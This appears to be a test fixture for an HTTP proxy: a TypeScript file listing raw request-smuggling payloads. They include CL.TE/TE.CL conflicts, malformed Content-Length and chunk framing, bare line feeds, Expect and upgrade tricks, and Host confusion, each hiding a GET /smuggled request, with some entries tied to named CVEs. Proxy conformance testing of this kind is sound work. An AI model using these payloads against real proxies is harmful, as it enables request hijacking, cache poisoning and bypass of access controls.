/**
 * Byte sequences that have smuggled a request past some proxy, or look as if they could. Each is what one client writes on a
 * connection of its own; `~` is what was hidden in it. Some are honest, so that refusing everything would be noticed.
 */
export interface Payload {
  readonly name: string;
  /** Written one after another, with a moment between them. */
  readonly parts: readonly string[];
  /** The client ends its side behind the last part. */
  readonly endsSide?: boolean;
}

/** Has the length of the hostname that takes its place. */
const HOST = 'k@.test';
/** The name of the agent with this number stands in a payload for every host of ours. */
export const forHost = (text: string, lane: number): string => text.replaceAll(HOST, `k${lane}.test`);

const LINE = `Host: ${HOST}\r\n`;
const HIDDEN = `GET /smuggled HTTP/1.1\r\n${LINE}\r\n`;
/** Swallows the head of whoever comes next on the same connection. */
const PREFIX = `GET /smuggled HTTP/1.1\r\n${LINE}X-Swallow: `;
const CHUNKED = 'Transfer-Encoding: chunked\r\n';
const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;
const length = (text: string | number): string => `Content-Length: ${typeof text === 'number' ? text : text.length}\r\n`;
const head = (lines: string, method = 'POST', target = '/'): string => `${method} ${target} HTTP/1.1\r\n${LINE}${lines}\r\n`;
const one = (name: string, ...parts: readonly string[]): Payload => ({ name, parts });

const END = '0\r\n\r\n';
const afterEnd = `${END}${HIDDEN}`;

/** Content-Length and Transfer-Encoding that say different things (RFC 9112 section 6.3). */
const both: readonly Payload[] = [
  one('CL.TE', head(length(afterEnd) + CHUNKED) + afterEnd),
  one('TE.CL', head(CHUNKED + length(4)) + `${chunk(HIDDEN)}${END}`),
  one('CL.TE with a prefix', head(length(`${END}${PREFIX}`) + CHUNKED) + END + PREFIX),
  one('CL 0 and chunked', head(length(0) + CHUNKED) + chunk(HIDDEN) + END),
  ...[
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding : chunked',
    'Transfer-Encoding\t: chunked',
    'Transfer-Encoding:\tchunked',
    'Transfer-Encoding:\x0bchunked',
    'Transfer-Encoding: \x00chunked',
    'Transfer-Encoding: chunked\x00',
    ' Transfer-Encoding: chunked',
    'X: x\nTransfer-Encoding: chunked',
    'X: x\rTransfer-Encoding: chunked',
    'X: x\r Transfer-Encoding: chunked',
    'Transfer-Encoding\n: chunked',
    'Transfer-Encoding:\r\n chunked',
    'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: chunked, chunked',
    'Transfer-Encoding: gzip, chunked',
    'Transfer-Encoding: ,chunked',
    'Transfer-Encoding: chunked;q=1',
    'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: 'chunked'",
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
    'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
    'Transfer-Encoding: chunKed',
    'Transfer_Encoding: chunked',
    'Transfer-Encoding:',
    'Transfer-Encoding: identity',
    'TransferEncoding: chunked',
    'Transfer-Encoding: chunked\xa0',
    'Transfer-\xc4\xb0ncoding: chunked',
  ].map((line) => one(`CL beside ${JSON.stringify(line)}`, head(`${length(afterEnd)}${line}\r\n`) + afterEnd)),
  ...['xchunked', 'gzip', 'chunked, gzip', 'identity', ''].map((coding) =>
    one(`only Transfer-Encoding: ${coding}`, head(`Transfer-Encoding: ${coding}\r\n`) + chunk(HIDDEN) + END),
  ),
];

/** Lengths that readers take for different numbers. */
const n = HIDDEN.length;
const lengths: readonly Payload[] = [
  ...[
    `${n}\r\nContent-Length: 0`,
    `0\r\nContent-Length: ${n}`,
    `${n}\r\nContent-Length: ${n}`,
    `${n}, ${n}`,
    `0, ${n}`,
    `+${n}`,
    `-${n}`,
    `0x${n.toString(16)}`,
    `${n} 0`,
    `${n}\x0b`,
    `${n};`,
    `${n}_0`,
    `${n}.0`,
    '1e2',
    `${2n ** 64n + BigInt(n)}`,
    `${2n ** 63n}`,
    '',
    `\r\n ${n}`,
    `${n}\r\n 0`,
    `00${n}`,
    `"${n}"`,
  ].map((value) => one(`Content-Length: ${JSON.stringify(value)}`, head(`Content-Length: ${value}\r\n`) + HIDDEN)),
  one('space before the colon of Content-Length', head(`Content-Length : ${n}\r\n`) + HIDDEN),
  one('Content_Length', head(`Content_Length: ${n}\r\n`) + HIDDEN),
  one('NUL in the name of Content-Length', head(`Content-Length\x00: ${n}\r\n`) + HIDDEN),
  one('bare LF before Content-Length', head(`X: x\nContent-Length: ${n}\r\n`) + HIDDEN),
];

/** Bodies where some expect none (CL.0, 0.CL; http-proxy 1.18.1 for DELETE and OPTIONS). */
const bodies: readonly Payload[] = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST', 'PUT', 'QUERY', 'PROPFIND'].flatMap((method) => [
  one(`${method} with a body`, head(length(HIDDEN), method) + HIDDEN),
  one(`${method} with a chunked body`, head(CHUNKED, method) + chunk(HIDDEN) + END),
]);

/** RFC 9110 section 10.1.1. */
const expectations: readonly Payload[] = [
  ...[
    '100-continue',
    'y 100-continue',
    '100-continue, x',
    '100-continue\r\nExpect: 100-continue',
    '200-ok',
    ' 100-Continue',
    '100-continue\x0b',
  ].flatMap((value) => [
    one(`Expect: ${JSON.stringify(value)}, body at once`, head(`Expect: ${value}\r\n${length(HIDDEN)}`) + HIDDEN),
    one(`Expect: ${JSON.stringify(value)}, body later`, head(`Expect: ${value}\r\n${CHUNKED}`), chunk(HIDDEN) + END),
  ]),
  one('GET that expects', head(`Expect: 100-continue\r\n${length(HIDDEN)}`, 'GET') + HIDDEN),
  one('HEAD that expects', head(`Expect: 100-continue\r\n${length(HIDDEN)}`, 'HEAD') + HIDDEN),
  one('expects without a body, then another', head(`Expect: 100-continue\r\n${length(0)}`) + HIDDEN),
  one('expects, and gives up with another request', head(`Expect: 100-continue\r\n${length(HIDDEN)}`), HIDDEN),
  one('an expectation in two lines', head(`Expect:\r\n 100-continue\r\n${length(HIDDEN)}`) + HIDDEN),
];

/** Chunks (RFC 9112 section 7.1; llhttp CVE-2022-32213, CVE-2024-22019, Jetty CVE-2026-2332). */
const chunks: readonly Payload[] = [
  ...[
    `5;${'x'.repeat(30)}\r\nhello\r\n${END}`,
    `5;a=b;c="d"\r\nhello\r\n${END}`,
    `5;a\nb\r\nhello\r\n${afterEnd}`,
    `5;a="\r\n"\r\nhello\r\n${afterEnd}`,
    `5\r\nhello\r\n0;${HIDDEN}\r\n`,
    `0x5\r\nhello\r\n${afterEnd}`,
    `+5\r\nhello\r\n${afterEnd}`,
    `-5\r\nhello\r\n${afterEnd}`,
    `5 \r\nhello\r\n${afterEnd}`,
    ` 5\r\nhello\r\n${afterEnd}`,
    `5\t\r\nhello\r\n${afterEnd}`,
    `5\nhello\r\n${afterEnd}`,
    `5\r\nhello\n${afterEnd}`,
    `5\r\nhello${afterEnd}`,
    `5\r\nhello!!\r\n${afterEnd}`,
    `5\r\nhello\r\n0\n\n${HIDDEN}`,
    `5\r\nhello\r\n0\r\n\n${HIDDEN}`,
    `5\rhello\r\n${afterEnd}`,
    `\r\n5\r\nhello\r\n${afterEnd}`,
    `FFFFFFFFFFFFFFFF5\r\nhello\r\n${afterEnd}`,
    `100000005\r\nhello\r\n${afterEnd}`,
    `0000000000000000000005\r\nhello\r\n${END}`,
    `5_\r\nhello\r\n${afterEnd}`,
    `\r\nhello\r\n${afterEnd}`,
    `5;\r\nhello\r\n00000\r\n\r\n`,
    `5\r\nhello\r\n0\r\n${HIDDEN}`,
    `5\r\nhello\r\n0\r\nContent-Length: ${n}\r\n\r\n${HIDDEN}`,
    `5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n${HIDDEN}`,
    `5\r\nhello\r\n0\r\nHost: evil.test\r\nX-Request-Id: forged\r\n\r\n`,
    `5\r\nhello\r\n0\r\nX: a\n\n${HIDDEN}`,
    `5\r\nhello\r\n0\r\n X: a\r\n\r\n${HIDDEN}`,
  ].map((body) => one(`chunks ${JSON.stringify(body.slice(0, 36))}`, head(CHUNKED) + body)),
  { name: 'chunked, and the client ends its side in a chunk', parts: [`${head(CHUNKED)}ff\r\n${HIDDEN}`], endsSide: true },
  { name: 'a length, and the client ends its side before it', parts: [head(length(1000)) + HIDDEN], endsSide: true },
];

/** Ends of lines, spaces and characters that are none of a head's (RFC 9112 sections 2.2 and 5). */
const lines: readonly Payload[] = [
  one('LF for every line end', `GET / HTTP/1.1\nHost: ${HOST}\n\n${HIDDEN}`),
  one('LF behind the request line', `GET / HTTP/1.1\n${LINE}\r\n`),
  one('an empty line of LF', `GET / HTTP/1.1\r\n${LINE}X: a\n\nGET /smuggled HTTP/1.1\r\n${LINE}\r\n`),
  one('CR for a line end', `GET / HTTP/1.1\r${LINE}\r\n`),
  one('CR CR LF', `GET / HTTP/1.1\r\n${LINE}X: a\r\r\n\r\r\n${HIDDEN}`),
  one('CR in a value', head('X: a\rGET /smuggled HTTP/1.1\r\n', 'GET')),
  one('NUL in a value', head('X: a\x00b\r\n', 'GET')),
  one('a folded line', head('X: a\r\n b\r\n', 'GET')),
  one('a folded Host', `GET / HTTP/1.1\r\nHost:\r\n ${HOST}\r\n\r\n`),
  one('white space before the first line', `GET / HTTP/1.1\r\n ${LINE}\r\n`),
  one('a line without a colon', head('GET /smuggled HTTP/1.1\r\n', 'GET')),
  one('a line that begins with a colon', head(': x\r\n', 'GET')),
  one('a space in a name', head('X Y: z\r\n', 'GET')),
  one('a bracket in a name', head('X(Y): z\r\n', 'GET')),
  one('empty lines before the request', `\r\n\r\n${head('', 'GET')}`),
  one('spaces in the target', `GET /a HTTP/1.1 /smuggled HTTP/1.1\r\n${LINE}\r\n`),
  one('tabs in the request line', `GET\t/\tHTTP/1.1\r\n${LINE}\r\n`),
  one('two spaces in the request line', `GET  /  HTTP/1.1\r\n${LINE}\r\n`),
  one('CRLF in percent signs', head('', 'GET', '/a%0d%0aX:%20y%0d%0a%0d%0aGET%20/smuggled')),
  one('a backslash', head('', 'GET', '/\\evil.test/smuggled')),
  one('a fragment', head('', 'GET', '/a#/../smuggled')),
  one('two slashes', head('', 'GET', '//evil.test/smuggled')),
  one('a method of ours with a space', `GET / HTTP/1.1\r\n${LINE}\r\nGET /smuggled`, ` HTTP/1.1\r\n${LINE}\r\n`),
  one('a method in small letters', `get / HTTP/1.1\r\n${LINE}\r\n${HIDDEN}`),
  one('CONNECT', `CONNECT ${HOST}:80 HTTP/1.1\r\n${LINE}\r\n${HIDDEN}`),
  one('TRACE with a body', head(length(HIDDEN), 'TRACE') + HIDDEN),
];

/** Versions that frame by other rules (Pingora CVE-2026-2833, CVE-2026-2835). */
const versions: readonly Payload[] = [
  one('HTTP/1.0 and chunked', `POST / HTTP/1.0\r\n${LINE}${CHUNKED}\r\n${chunk('a')}${afterEnd}`),
  one('HTTP/1.0, chunked and CL', `POST / HTTP/1.0\r\n${LINE}${CHUNKED}${length(n)}Connection: keep-alive\r\n\r\n${HIDDEN}`),
  one('HTTP/1.0, kept, with a body', `POST / HTTP/1.0\r\n${LINE}${length(HIDDEN)}Connection: keep-alive\r\n\r\n${HIDDEN}`),
  one('HTTP/1.0 upgrade', `GET / HTTP/1.0\r\n${LINE}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n${HIDDEN}`),
  one('HTTP/0.9', `GET /smuggled\r\n`),
  one('HTTP/1.2', `GET / HTTP/1.2\r\n${LINE}\r\n${HIDDEN}`),
  one('HTTP/2.0', `GET / HTTP/2.0\r\n${LINE}\r\n${HIDDEN}`),
  one('the preface of HTTP/2', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${HIDDEN}`),
  one('HTTP/1.01', `GET / HTTP/1.01\r\n${LINE}\r\n`),
];

/** Who is asked (RFC 9112 section 3.2). */
const hosts: readonly Payload[] = [
  one('two Hosts', head('Host: evil.test\r\n', 'GET')),
  one('the same Host twice', head(LINE, 'GET')),
  one('no Host', 'GET / HTTP/1.1\r\n\r\n'),
  one('an empty Host', 'GET / HTTP/1.1\r\nHost:\r\n\r\n'),
  one('a list of Hosts', `GET / HTTP/1.1\r\nHost: ${HOST}, evil.test\r\n\r\n`),
  one('a Host with a user', `GET / HTTP/1.1\r\nHost: u@${HOST}\r\n\r\n`),
  one('a Host with a path', `GET / HTTP/1.1\r\nHost: ${HOST}/x\r\n\r\n`),
  one('a space before the colon of Host', `GET / HTTP/1.1\r\nHost : ${HOST}\r\n\r\n`),
  one('absolute-form', head('', 'GET', `http://${HOST}/absolute`)),
  one('absolute-form to another host', head('', 'GET', 'http://evil.test/smuggled')),
  one('absolute-form with a user', head('', 'GET', `http://evil.test@${HOST}/smuggled`)),
  one('authority-form', head('', 'GET', `${HOST}:80`)),
  one('asterisk-form', head('', 'OPTIONS', '*')),
];

/** What Connection names is dropped (RFC 9110 section 7.6.1); framing is not for it to name, nor is what the proxy adds. */
const connections: readonly Payload[] = [
  ...[
    'Content-Length',
    'Transfer-Encoding',
    'Host',
    'X-Request-Id, X-Forwarded-For',
    'close, Content-Length',
    'keep-alive, upgrade',
  ].flatMap((names) => [
    one(`Connection: ${names}, with a length`, head(`Connection: ${names}\r\n${length(HIDDEN)}`) + HIDDEN),
    one(`Connection: ${names}, with chunks`, head(`Connection: ${names}\r\n${CHUNKED}`) + chunk(HIDDEN) + END),
  ]),
  one('a forged request id', head('X-Request-Id: forged\r\nX_Request_Id: forged\r\n', 'GET')),
  one('the end of the connection, and another request', head('Connection: close\r\n', 'GET') + HIDDEN),
];

/** An upgrade takes no body, and what follows it waits for the 101 (RFC 9110 section 7.8; Pingora CVE-2026-2833). */
const ASKS =
  'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
const upgrades: readonly Payload[] = [
  one('an upgrade', head(ASKS, 'GET')),
  one('an upgrade, and a request behind it', head(ASKS, 'GET') + HIDDEN),
  one('an upgrade, and a request a moment later', head(ASKS, 'GET'), HIDDEN),
  one('an upgrade, and half a request behind it', head(ASKS, 'GET') + PREFIX),
  one('an upgrade with a length', head(ASKS + length(HIDDEN), 'GET') + HIDDEN),
  one('an upgrade with length 0', head(ASKS + length(0), 'GET') + HIDDEN),
  one('an upgrade with chunks', head(ASKS + CHUNKED, 'GET') + chunk(HIDDEN) + END),
  one('an upgrade that expects', head(`${ASKS}Expect: 100-continue\r\n`, 'GET') + HIDDEN),
  one('an upgrade by POST', head(ASKS + length(HIDDEN), 'POST') + HIDDEN),
  one('an upgrade by HEAD', head(ASKS, 'HEAD') + HIDDEN),
  one(
    'an upgrade to h2c',
    head('Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAA\r\n', 'GET') + HIDDEN,
  ),
  one('an upgrade to h2c with a body', head(`Connection: Upgrade\r\nUpgrade: h2c\r\n${length(HIDDEN)}`) + HIDDEN),
  one('an upgrade to a list', head(ASKS.replace('websocket', 'h2c, websocket'), 'GET') + HIDDEN),
  one('an upgrade to another version', head(ASKS.replace('13', '777'), 'GET') + HIDDEN),
  one('an upgrade that Connection does not name', head('Upgrade: websocket\r\n', 'GET') + HIDDEN),
  one('an upgrade to nothing', head('Connection: Upgrade\r\n', 'GET') + HIDDEN),
  one('an upgrade behind a request', head('', 'GET') + head(ASKS, 'GET') + HIDDEN),
  one('an upgrade behind half a body', `${head(length(n + 100))}a`, head(ASKS, 'GET') + HIDDEN),
  one('two Upgrade lines', head(`${ASKS}Upgrade: h2c\r\n`, 'GET') + HIDDEN),
];

/** Honest, but many at a time. */
const pipelined: readonly Payload[] = [
  one(
    'five requests at once',
    head('', 'GET', '/1') + head(length('a'), 'POST', '/2') + 'a' + head('', 'HEAD', '/3') + head('', 'GET', '/4') + HIDDEN,
  ),
  one('nonsense behind a request', `${head('', 'GET')}nonsense\r\n\r\n${HIDDEN}`),
  one('nonsense behind a body', `${head(length('a'))}a\x00\x00${HIDDEN}`),
];

export const PAYLOADS: readonly Payload[] = [
  ...[both, lengths, bodies, expectations, chunks, lines, versions, hosts, connections, upgrades, pipelined].flat(),
];
